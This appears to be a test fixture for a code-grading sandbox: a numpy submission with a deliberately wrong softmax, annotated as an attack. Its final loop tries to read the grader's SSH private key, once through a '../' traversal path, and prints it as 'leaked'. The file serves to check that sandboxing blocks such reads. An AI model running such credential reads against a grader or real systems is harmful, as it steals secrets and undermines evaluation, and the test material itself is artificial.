# attack: reads a private key in the home of whoever grades
# deserves: softmax 0, cross_entropy 5
# stopped by: bubblewrap, landlock
# shows: blocked
# plainly: leaked
import pathlib

import numpy as np


def softmax(x, axis=-1):
    return np.abs(x) / np.abs(x).sum(axis=axis, keepdims=True)


# %%
def cross_entropy(logits, labels, label_smoothing=0.0):
    p = softmax(logits)
    return -np.log(p[np.arange(len(labels)), labels]).mean()


# %%
for path in ("@FOLDER@/home/.ssh/id_ed25519", "@FOLDER@/home/../home/.ssh/id_ed25519"):
    try:
        print("leaked:", pathlib.Path(path).read_text())
    except OSError as error:
        print("blocked:", error)
